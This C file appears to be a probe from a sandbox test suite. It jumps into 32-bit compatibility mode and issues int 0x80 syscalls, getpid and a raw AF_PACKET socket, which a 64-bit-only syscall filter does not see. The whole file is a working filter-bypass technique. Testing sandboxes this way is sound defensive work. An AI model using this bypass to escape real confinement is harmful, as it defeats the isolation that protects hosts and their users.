/* class: kernel
 * what: jumps to a 32-bit code segment and calls by int 0x80 and sysenter from there, with registers a 64-bit filter never sees
 */
#include "attack.h"

/* 32-bit code in low memory: mov eax,20; int 0x80 (or sysenter); far return to 64 bits */
static int go(const unsigned char *insn, size_t len)
{
    unsigned char *p = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1,
                            0);
    if (p == MAP_FAILED)
        return errno;
    memcpy(p, insn, len);
    long r = -EFAULT;
    __asm__ volatile("mov $0x2b, %%eax\n" /* 64-bit code leaves these empty, 32-bit code needs them */
                     "mov %%eax, %%ds\n"
                     "mov %%eax, %%es\n"
                     "mov %%rsp, %%r12\n"
                     "lea 8000(%[p]), %%rsp\n" /* a stack that 32-bit code reaches */
                     "pushq $0x23\n"
                     "pushq %[p]\n"
                     "lea 1f(%%rip), %%r13\n"
                     "mov %%r13, 4096(%[p])\n"
                     "lretq\n"
                     "1: mov %%r12, %%rsp\n"
                     : "=a"(r)
                     : [p] "b"((long)p)
                     : "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "memory");
    int answer = (int)r;
    return answer > 0 ? 0 : answer < 0 && answer > -4096 ? -answer : EFAULT;
}
static int by_int80(void)
{
    /* mov eax,20; int 0x80; push 0x33; push dword [ebx+4096]; retf */
    static const unsigned char code[] = { 0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0x6a, 0x33, 0xff, 0xb3, 0, 0x10, 0, 0, 0xcb };
    return go(code, sizeof code);
}
static int socket_packet(void)
{
    /* push ebx; mov eax,359 (socket); mov ebx,17; mov ecx,3; xor edx,edx; int 0x80; pop ebx; push 0x33; push
     * [ebx+4096]; retf */
    static const unsigned char code[] = { 0x53, 0xb8, 0x67, 1,    0,    0, 0xbb, 17,   0,    0,
                                          0,    0xb9, 3,    0,    0,    0, 0x31, 0xd2, 0xcd, 0x80,
                                          0x5b, 0x6a, 0x33, 0xff, 0xb3, 0, 0x10, 0,    0,    0xcb };
    return go(code, sizeof code);
}

int main(void)
{
    attempt("getpid from 32-bit code", by_int80);
    attempt("AF_PACKET from 32-bit code", socket_packet);
    verdict();
}
